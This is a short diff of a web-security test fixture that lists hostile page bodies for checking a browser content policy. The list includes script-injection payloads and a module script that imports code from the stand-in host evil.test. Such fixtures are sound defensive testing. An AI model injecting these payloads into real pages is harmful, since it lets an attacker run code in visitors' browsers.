@@ -1,4 +1,4 @@
-import { elements } from '../../src/domain/mdx/hostile-texts.ts';
+import { hostileMarkup } from '../hostile/bodies/elements.ts';
 
 /** A number, since a page is replaced by the text that a `javascript:` address gives. */
 const run = 'window.top.ran=1';
@@ -8,7 +8,7 @@ const leadsAway = /http-equiv="refresh" content="0;url=\/\//;
 
 /** What could be in a page if neither the check nor the renderer had a list: for a browser with the policy alone. */
 export const hostileBodies: readonly string[] = [
-  ...elements.filter((body) => !leadsAway.test(body)),
+  ...hostileMarkup.filter((body) => !leadsAway.test(body)),
   `<script>${run}</script>`,
   `<script type="module">${run}</script>`,
   `<script type="module">import('https://evil.test/x.js')</script>`,
